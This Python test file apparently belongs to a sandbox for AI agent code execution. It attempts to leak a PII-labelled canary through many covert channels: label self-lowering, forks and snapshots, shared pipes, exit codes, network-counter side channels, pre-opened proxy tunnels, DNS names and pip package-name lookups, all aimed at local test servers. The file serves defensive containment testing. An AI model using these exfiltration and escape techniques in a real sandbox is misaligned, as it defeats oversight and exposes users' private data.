"""Attempts on labels: to let out what a program has read, where nothing of its label may go.

Each program reads a value with the label `pii.email` in a sandbox whose `egress_max` is `public`.
"""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Iterator, Sequence
from typing import Any

from actbox import (
    AllowedDomain,
    ApprovalDecision,
    ApprovalRequest,
    FileMount,
    PackagePolicy,
    PackageRules,
    Policy,
    Program,
    Session,
    Toolset,
    tool,
)
from actbox.capabilities import Call, Capability, CapabilityTools, Registry
from actbox.codeact.outcome import CodeActOutcome
from actbox.codeact.settings import CodeActSettings
from actbox.core.call_log import CallLog
from actbox.core.labels import PUBLIC
from actbox.sandbox.egress.upstream import Upstream
from tests.escape.attempt import Bare, Group, NotApplicable, Verdict, escaped_if, unproven
from tests.escape.ground import Ground
from tests.escape.lanes import one_by_one, with_a_lane

GROUP = Group("labels", Bare.NOTHING_THERE)
_VALUE = "canary-of-ann"


class _World:
    """The tools of an attempt, and all that has reached the world outside by them."""

    def __init__(self) -> None:
        self.got: list[str] = []
        sent = self.got.append

        @tool(label="pii.email")
        def load() -> str:
            """Return a value with a label."""
            return _VALUE

        @tool(label="pii.email")
        def fail() -> None:
            """Fail with a value that has a label."""
            raise ValueError(_VALUE)

        @tool
        def send(text: str) -> None:
            """Send a text to the world."""
            sent(text)

        self.tools = [load, fail, send]

    def verdict(self) -> Verdict:
        return escaped_if(any(_VALUE in text for text in self.got), self.got)


def _policy(**more: Any) -> Policy:
    return Policy(egress_max=PUBLIC, **more)


async def _tries(ground: Ground, *programs: str) -> Verdict:
    """Run programs one after the other in one sandbox."""
    world, box = _World(), await ground.open(_policy())
    for program in programs:
        await box.run(program, tools=world.tools)
    return world.verdict()


def _program(what: str, *programs: str) -> None:
    @GROUP.function(what)
    async def _(ground: Ground) -> Verdict:
        return await _tries(ground, *programs)


_program("give a tool what another tool has answered", "send(load())")
_program("give a tool what it has read, in parts", "for letter in [load()]:\n    send(letter)")
_program(
    "give a tool what it has read, by name and from a thread",
    "import threading\ntext = load()\n"
    "thread = threading.Thread(target=call_tool, args=('send',), kwargs={'text': text})\nthread.start()\nthread.join()",
)
_program(
    "give a tool what the error of another tool says",
    "try:\n    fail()\nexcept Exception as error:\n    send(str(error))",
)
_program("lower its own label", "text = load()\nraise_label('public')\nsend(text)")
_program("claim that nothing was read", "text = load()\nclaim('value', 'public')\nsend(text)")
_program(
    "give a tool what an earlier program has written to a file",
    "open('kept', 'w').write(load())",
    "send(open('kept').read())",
)
_program(
    "ask for both at once",
    "import asyncio\n"
    "async def pass_on():\n    await send(await load())\nawait asyncio.gather(*(pass_on() for _ in range(20)))",
)


# What a network has counted of attempts to send stays with it, and a lane keeps its network.
_COUNT = (
    "import socket\nfor _ in range(ord(load()[{place}])):\n"
    "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:\n"
    "        try: one.sendto(b'x', ('8.8.8.8', 80))\n        except OSError: pass\n"
)
_COUNTED = (
    "names, numbers = [l.split() for l in open('/proc/self/net/snmp') if l.startswith('Ip:')]\n"
    "send(chr(int(numbers[names.index('OutNoRoutes')]) - {before}))"
)


@GROUP.function("give a tool what an earlier program of a call of map has read, as the network's count")
async def _(ground: Ground) -> Verdict:
    world, box, word = _World(), await with_a_lane(ground, _policy()), _VALUE[:3]
    programs = ["1"]
    for place in range(len(word)):
        programs.append(_COUNT.format(place=place))
        programs.append(_COUNTED.format(before=sum(map(ord, word[:place]))))
    results = [result async for result in box.map(one_by_one(box, programs), concurrency=1, tools=world.tools)]
    if any(result.error for result in results[1::2]):
        return unproven([result.error for result in results])
    return escaped_if("".join(world.got) == word, world.got)


@GROUP.function("give a tool an input that has a label")
async def _(ground: Ground) -> Verdict:
    world, box = _World(), await ground.open(_policy())
    await box.run(Program("send(value)", inputs={"value": _VALUE}, label="pii.email"), tools=world.tools)
    return world.verdict()


@GROUP.function("give a tool what a program of the sandbox has read, from a session")
async def _(ground: Ground) -> Verdict:
    world, session = _World(), await ground.open_session(_policy())
    await session.run("text = load()", tools=world.tools)
    await session.run("send(text)", tools=world.tools)
    return world.verdict()


async def _forkable(ground: Ground, world: _World, program: str) -> Session:
    session = await ground.open_session(_policy(), forkable=True)
    await session.run(program, tools=world.tools)
    return session


@GROUP.function("give a tool what the origin of a copy has read")
async def _(ground: Ground) -> Verdict:
    world = _World()
    session = await _forkable(ground, world, "text = load()")
    async with await session.fork() as copy:
        await copy.run("send(text)", tools=world.tools)
    return world.verdict()


@GROUP.function("give a tool what a copy has read since, through a pipe that both have")
async def _(ground: Ground) -> Verdict:
    world = _World()
    session = await _forkable(ground, world, "import os\nread, write = os.pipe()")
    async with await session.fork() as copy:
        await copy.run("os.write(write, load().encode())", tools=world.tools)
        await session.run("send(os.read(read, 1000).decode())", tools=world.tools)
    return world.verdict()


@GROUP.function("give a tool what a snapshot remembers")
async def _(ground: Ground) -> Verdict:
    world = _World()
    session = await _forkable(ground, world, "text = load()")
    snapshot = await session.snapshot()
    await session.close()
    async with snapshot, await snapshot.fork() as copy:
        await copy.run("send(text)", tools=world.tools)
    return world.verdict()


@GROUP.function("leave what it has read for the next program in a throwaway workspace")
async def _(ground: Ground) -> Verdict:
    world, box = _World(), await ground.open(_policy())
    folders = "('/workspace', '/tmp', '/dev/shm')"
    leave = f"text = load()\nfor folder in {folders}:\n    open(f'{{folder}}/kept', 'w').write(text)"
    find = f"import os\nfor folder in {folders}:\n    if os.path.exists(f'{{folder}}/kept'): send(open(f'{{folder}}/kept').read())"
    for program in (leave, find):
        await box.run_alone(program, tools=world.tools)
    return world.verdict()


@GROUP.function("show an approver what it has read")
async def _(ground: Ground) -> Verdict:
    world = _World()
    asked: list[str] = []

    class Approves:
        async def decide(self, request: ApprovalRequest) -> ApprovalDecision:
            asked.append(str(dict(request.arguments)))
            return ApprovalDecision(True)

    @tool(approval="always_require")
    def publish(text: str) -> None:
        """Publish a text."""

    box = await ground.open(_policy())
    await box.run("publish(load())", tools=Toolset.of([*world.tools, publish]).asking(Approves()))
    return escaped_if(any(_VALUE in text for text in asked), asked)


@GROUP.function("write what it has read into a folder of the host")
async def _(ground: Ground) -> Verdict:
    world, folder = _World(), ground.folder()
    folder.chmod(0o777)
    box = await ground.open(_policy(mounts=(FileMount(folder, "/data", "rw"),)))
    await box.run("text = load()\nopen('/data/kept', 'w').write(text)", tools=world.tools)
    found = [path.read_text() for path in folder.iterdir()]
    return escaped_if(any(_VALUE in text for text in found), found)


@GROUP.function("claim that a file with what it has read is public")
async def _(ground: Ground) -> Verdict:
    world, box = _World(), await ground.open(_policy())
    code = "open('/workspace/output/kept.txt', 'w').write(load())\nclaim('kept.txt', 'public')"
    result = await box.run(code, tools=world.tools)
    if [artifact.name for artifact in result.artifacts] != ["kept.txt"]:
        return unproven(result)
    return escaped_if(result.artifacts[0].label <= PUBLIC, result.artifacts[0])


def _to_the_model(what: str, code: str) -> None:
    """Add an attempt to tell a model that is cleared for public data only something of a value."""

    @GROUP.function(what)
    async def _(ground: Ground) -> Verdict:
        texts = set()
        for bit in (0, 1):
            world, box = _World(), await ground.open(_policy())
            result = await box.run(f"text, bit = load(), {bit}\n{code}", tools=world.tools)
            settings = CodeActSettings(egress_max="public")
            outcome = CodeActOutcome.of(result, settings, program=code, calls=CallLog(), file_surface=True)
            texts.add((outcome.text, str(outcome.to_json_shape()), outcome.artifacts))
        return escaped_if(len(texts) > 1 or any(_VALUE in text for text, _, _ in texts), texts)


_to_the_model("tell the model by what it prints", "print(text)")
_to_the_model("tell the model by its value", "text")
_to_the_model("tell the model by an error", "raise ValueError(text)")
_to_the_model("tell the model by its exit code", "import sys\nsys.exit(3 + bit)")
_to_the_model("tell the model by a file", "open('/workspace/output/' + text, 'w').write(text)")
_to_the_model("tell the model by the name of a label", "raise_label('pii.' + 'ab'[bit])")


# By capabilities


def _by_a_capability(what: str, code: str) -> None:
    """Add an attempt to have a capability send what a program has read, by tools of another conversation."""

    @GROUP.function(what)
    async def _(ground: Ground) -> Verdict:
        world = _World()

        async def fail(call: Call) -> None:
            raise ValueError(_VALUE)

        async def post(call: Call) -> None:
            world.got.append(call.input["text"])

        registry = Registry(
            [
                Capability("kit.fail", "", "[:map]", True, handler=fail, data="pii.email"),
                Capability("web.post", "", "[:map [:text :string]]", True, handler=post, effects=["network"]),
            ],
            egress_max=PUBLIC,
        )
        box = await ground.open(Policy())
        others = [*CapabilityTools(registry, only=["kit.fail"]), *CapabilityTools(registry, only=["web.post"])]
        result = await box.run(code, tools=[*others, *world.tools])
        return world.verdict() if result.usage.tool_calls == 2 else unproven(result)


_by_a_capability("have a capability send what a tool has answered", "web_post(load())")
_by_a_capability(
    "have a capability send what the error of another says",
    "try:\n    kit_fail()\nexcept Exception as error:\n    web_post(str(error))",
)


# Over the network


class _Sink:
    """A host that keeps every byte it gets, and closes when it gets `END` or nothing more comes."""

    def __init__(self) -> None:
        self.got = b""
        self.ended = threading.Event()
        self._came = threading.Condition()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(30)
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def arrived(self, text: str) -> bool:
        """Wait until a text has arrived; return whether it has."""
        with self._came:
            return self._came.wait_for(lambda: text.encode() in self.got, 30)

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            connection, _ = self._listener.accept()
            with connection:
                connection.settimeout(30)
                while b"END" not in self.got and (data := connection.recv(65536)):
                    with self._came:
                        self.got += data
                        self._came.notify_all()
        self.ended.set()


@contextlib.contextmanager
def _sink() -> Iterator[_Sink]:
    sink = _Sink()
    try:
        yield sink
    finally:
        sink.close()


async def _loopback(name: str, port: int) -> Sequence[str]:
    return ["127.0.0.1"]


_CONNECT = """
import socket, ssl
way = socket.create_connection(("127.0.0.1", 3128), 30)
way.settimeout(30)
place = f"allowed.test:{PORT}"

def finish():
    try:
        way.sendall(text.encode() + b"END")
        while way.recv(65536):
            pass
    except OSError:
        pass
"""
_TUNNEL = """
way.sendall(f"CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\n".encode())
way.recv(65536)
out, context = ssl.MemoryBIO(), ssl.create_default_context()
try:
    context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="allowed.test").do_handshake()
except ssl.SSLWantReadError:
    pass
way.sendall(out.read() + b"before")
arrived("before")
"""
_REQUEST = """
head = f"POST http://{place}/ HTTP/1.1\\r\\nHost: {place}\\r\\nContent-Length: 1000\\r\\n\\r\\n"
way.sendall(head.encode() + b"before")
arrived("before")
"""


def _over_a_connection(what: str, begin: str, then: str = "text = load()\nfinish()", **session: bool) -> None:
    """Add an attempt that begins to send before it has read anything, and sends the rest when it has."""

    @GROUP.function(what)
    async def _(ground: Ground) -> Verdict:
        if not ground.traits.domains:
            raise NotApplicable(f"the {ground.engine} engine has no network")
        world = _World()
        with _sink() as sink:
            domain = AllowedDomain(f"allowed.test:{sink.port}", private=True)
            box = await ground.open(_policy(domains=(domain,)), upstream=Upstream(resolve=_loopback))
            tools: list[Any] = [*world.tools, tool(name="arrived")(sink.arrived)]
            begins = f"PORT = {sink.port}\n{_CONNECT}{begin}"
            if session:
                async with box.session() as place:
                    await place.run(begins, tools=tools)
                    await box.run("load()", tools=tools)
                    await place.run(then, tools=tools)
            else:
                await box.run(begins + then, tools=tools)
            if not sink.ended.wait(30) or b"before" not in sink.got:
                return unproven(f"the connection carried {sink.got[-100:]!r}")
            return escaped_if(_VALUE.encode() in sink.got, sink.got[-100:])


_over_a_connection("send what it has read over a tunnel that was opened before", _TUNNEL)
_over_a_connection("send what it has read as the rest of a request", _REQUEST)
_over_a_connection(
    "send over a session's tunnel what another program has read",
    _TUNNEL,
    f"text = {_VALUE!r}\nfinish()",
    in_a_session=True,
)


@GROUP.function("have a name looked up that carries what it has read")
async def _(ground: Ground) -> Verdict:
    names: list[str] = []

    async def resolve(name: str, port: int) -> Sequence[str]:
        names.append(name)
        raise OSError("there is no such name")

    if not ground.traits.domains:
        raise NotApplicable(f"the {ground.engine} engine has no network")
    world, policy = _World(), _policy(domains=(AllowedDomain("*.allowed.test"),))
    box = await ground.open(policy, upstream=Upstream(resolve=resolve))
    code = """
import socket
place = load() + ".allowed.test"
for request in (f"GET http://{place}/ HTTP/1.1", f"CONNECT {place}:443 HTTP/1.1"):
    with socket.create_connection(("127.0.0.1", 3128), 30) as way:
        port = ":443" if request.startswith("CONNECT") else ""
        way.sendall(f"{request}\\r\\nHost: {place}{port}\\r\\n\\r\\n".encode())
        way.recv(65536)
"""
    result = await box.run(code, tools=world.tools)
    return escaped_if(any(_VALUE in name for name in names), names) if result.error is None else unproven(result)


@GROUP.function("have the package index asked for a name that carries what it has read")
async def _(ground: Ground) -> Verdict:
    if not ground.traits.session_packages:
        raise NotApplicable(f"sessions of the {ground.engine} engine get no packages")
    with _answering("") as index:
        rules = PackageRules(auto_approved=[_VALUE])
        packages = PackagePolicy(python=rules, index=f"http://127.0.0.1:{index.port}/simple", cache="")
        session, world = await ground.open_session(_policy(packages=packages)), _World()
        await session.run("text = load()", tools=world.tools)
        result = await session.run(f"%pip install {_VALUE}")
        return escaped_if(any(_VALUE.encode() in asked for asked in index.asked), (index.asked, result.error))


@GROUP.function("tell one host what another host with a label has answered")
async def _(ground: Ground) -> Verdict:
    if not ground.traits.domains:
        raise NotApplicable(f"the {ground.engine} engine has no network")
    with _answering(_VALUE) as people, _answering("ok") as other:
        domains = (
            AllowedDomain(f"http://people.test:{people.port}", private=True, label="pii.email"),
            AllowedDomain(f"http://allowed.test:{other.port}", private=True),
        )
        box = await ground.open(_policy(domains=domains), upstream=Upstream(resolve=_loopback))
        code = f"""
import urllib.request
text = urllib.request.urlopen("http://people.test:{people.port}/").read().decode()
print(text)
try:
    urllib.request.urlopen("http://allowed.test:{other.port}/" + text)
except urllib.error.HTTPError as error:
    print(error.code)
"""
        result = await box.run(code)
        if not result.stdout.startswith(_VALUE):
            return unproven(result)
        return escaped_if(any(_VALUE.encode() in asked for asked in other.asked), other.asked)


class _Answering:
    """A plain HTTP server that answers one text, and remembers what it was asked."""

    def __init__(self, text: str) -> None:
        self.asked: list[bytes] = []
        self._answer = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (
            len(text),
            text.encode(),
        )
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)  # a blocked accept() is woken by that only
        self._listener.close()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                with connection, contextlib.suppress(OSError):
                    connection.settimeout(30)
                    self.asked.append(connection.recv(65536))
                    connection.sendall(self._answer)


def _answering(text: str) -> contextlib.closing[_Answering]:
    return contextlib.closing(_Answering(text))
